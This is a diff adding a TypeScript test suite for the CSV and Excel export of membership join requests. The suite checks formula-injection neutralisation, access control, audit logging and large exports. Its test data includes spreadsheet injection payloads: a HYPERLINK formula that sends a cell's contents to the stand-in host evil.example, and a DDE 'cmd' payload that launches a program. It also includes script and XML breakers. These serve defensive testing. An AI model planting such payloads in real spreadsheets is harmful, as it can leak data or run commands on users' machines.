@@ -1,0 +1,160 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { sql } from 'kysely';
+import readWorkbook from 'read-excel-file/node';
+import { csvLine } from '../src/review/export/csv.ts';
+import { makeTemplate } from './support/app.ts';
+import { desk, openDesk, type TestDesk, versions } from './support/desk.ts';
+import { startTestPostgres, type TestPostgres } from './support/postgres.ts';
+
+/** What spreadsheet programs take for formulas, what breaks lines and columns, and what XML cannot hold. */
+const nasty = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"ver")',
+  "=cmd|'/c calc'!A0",
+  '+52 612 123 4567',
+  '-2+3',
+  '@SUM(1)',
+  '  =1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '\t=1+1',
+  'uno;dos,"tres"\ncuatro',
+  '"; =1+1',
+  "'=1+1",
+  '<script>alert(1)</script>&amp;',
+  ']]>',
+  '_x0041_ y _x000D_',
+  'عربي ‏=1',
+  '🦋 水',
+  '00123',
+  '1e5',
+];
+
+describe('the file of join requests', () => {
+  let postgres: TestPostgres;
+  let office: TestDesk;
+  const ending: (() => unknown)[] = [];
+  before(async () => {
+    postgres = await startTestPostgres();
+    office = await openDesk(
+      { after: (end) => ending.push(end as () => unknown) },
+      postgres,
+      await makeTemplate(postgres),
+    );
+    for (const message of nasty) await office.join({ message, place: 'La Paz' });
+    // Another branch of the form sends answers to the network's own questions.
+    await sql`
+      update join_requests
+      set document = (document::jsonb || '{"answers": {"size": "=9+9", "topics": ["agua", "suelo"]}}')::json
+      where document->>'message' = '=1+1'`.execute(office.db);
+    const declined = await office.join({ message: 'rechazada', place: 'Loreto', targets: ['6.1', '6.2'] });
+    await office.decide({ requests: versions(declined), decision: 'decline', message: '=motivo' });
+  });
+  after(async () => {
+    for (const end of ending) await end();
+    await postgres.stop();
+  });
+
+  const fileAt = async (suffix: string, query = '') => {
+    const response = await office.ask('GET', `${desk}.${suffix}${query}`);
+    assert.equal(response.status, 200);
+    assert.match(
+      response.headers.get('Content-Disposition') ?? '',
+      new RegExp(`^attachment; filename="red-de-prueba-.*\\.${suffix}"$`),
+    );
+    assert.equal(response.headers.get('Cache-Control'), 'no-store');
+    return Buffer.from(await response.arrayBuffer());
+  };
+
+  it('is CSV that reads back to what was sent, with nothing that begins a formula', async () => {
+    const file = await fileAt('csv');
+    assert.deepEqual([...file.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+    const [headings = [], ...rows] = parseCsv(file.toString('utf8').slice(1));
+    assert.equal(rows.length, nasty.length + 1);
+    assert.ok(rows.every((row) => row.length === headings.length));
+    const cells = rows.flat();
+    for (const cell of cells) assert.doesNotMatch(cell, /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/u);
+    const messages = rows.map((row) => row[headings.indexOf('message')] ?? '');
+    for (const text of nasty) assert.ok(messages.includes(text) || messages.includes(`'${text}`), text);
+    const answered = rows.find((row) => row[headings.indexOf('answers.size')] !== '');
+    assert.equal(answered?.[headings.indexOf('answers.size')], "'=9+9");
+    assert.equal(answered?.[headings.indexOf('answers.topics')], 'agua, suelo');
+    const declined = rows.find((row) => row[headings.indexOf('place')] === 'Loreto');
+    const valueOf = (heading: string) => declined?.[headings.indexOf(heading)];
+    assert.deepEqual(['status', 'reason', 'decidedBy', 'targets', 'goals', 'consent.purposes'].map(valueOf), [
+      'declined',
+      "'=motivo",
+      'Marina',
+      '6.1, 6.2',
+      '6',
+      'membership',
+    ]);
+  });
+
+  it('is a workbook whose cells are all texts', async () => {
+    const sheets = await readWorkbook(await fileAt('xlsx'));
+    const [headings = [], ...rows] = (sheets[0] as { data?: unknown[][] }).data ?? (sheets as unknown as unknown[][]);
+    assert.equal(rows.length, nasty.length + 1);
+    const cells = rows.flat().filter((cell) => cell !== null);
+    assert.ok(cells.every((cell) => typeof cell === 'string'));
+    const messages = rows.map((row) => row[headings.indexOf('message')] as string);
+    for (const text of nasty)
+      assert.ok(
+        messages.some((message) => message.trim() === text.trim() || message === text.replaceAll('_x0', '_x005F_x0')),
+        `${text} in ${messages.join('\n')}`,
+      );
+  });
+
+  it('has what the filters of the list leave', async () => {
+    const rows = parseCsv((await fileAt('csv', '?status=declined')).toString('utf8').slice(1));
+    assert.equal(rows.length, 2);
+    const none = parseCsv((await fileAt('csv', '?q=nadie')).toString('utf8').slice(1));
+    assert.equal(none.length, 1, 'the headings');
+  });
+
+  it('is for coordinators, and its making is in the audit log', async () => {
+    const exported = () =>
+      office.db.selectFrom('audit_log').select('actor_id').where('action', '=', 'join-requests.exported').execute();
+    const before = (await exported()).length;
+    assert.equal((await office.ask('GET', `${desk}.csv`, { who: 'viewer' })).status, 403);
+    assert.equal((await office.app.request(`${desk}.xlsx`)).status, 401);
+    assert.equal((await office.ask('GET', `${desk}.pdf`)).status, 406);
+    assert.equal((await office.ask('GET', `${desk}.csv?limit=2`)).status, 400);
+    assert.equal((await exported()).length, before);
+    await fileAt('csv');
+    const entries = await exported();
+    assert.equal(entries.length, before + 1);
+    assert.match(entries.at(-1)?.actor_id ?? '', /^tok_/);
+  });
+
+  it('holds more requests than are read at once', async (t) => {
+    await sql`
+      insert into join_requests select (jsonb_populate_record(request, jsonb_build_object('id', 'jrq_' || lpad(n::text, 26, '0')))).*
+      from join_requests as request, generate_series(1, 1200) as n
+      where request.document->>'message' = 'rechazada'`.execute(office.db);
+    t.after(() => sql`delete from join_requests where id like 'jrq_00000%'`.execute(office.db));
+    const rows = parseCsv((await fileAt('csv', '?status=declined')).toString('utf8').slice(1));
+    assert.equal(rows.length, 1202);
+    assert.equal(new Set(rows.map(([id]) => id)).size, 1202);
+    const workbook = await readWorkbook(await fileAt('xlsx', '?status=declined'));
+    const data = (workbook[0] as { data?: unknown[][] }).data ?? (workbook as unknown as unknown[][]);
+    assert.equal(data.length, 1202);
+  });
+
+  it('quotes every cell of a line of CSV', () => {
+    assert.equal(csvLine(['a "b"', '', '=x']), '"a ""b""","","\'=x"\r\n');
+  });
+});
+
+/** CSV by RFC 4180, read in the simplest way. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, cell = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
+    rows.at(-1)?.push(cell.replaceAll('""', '"'));
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.slice(0, -1);
+}
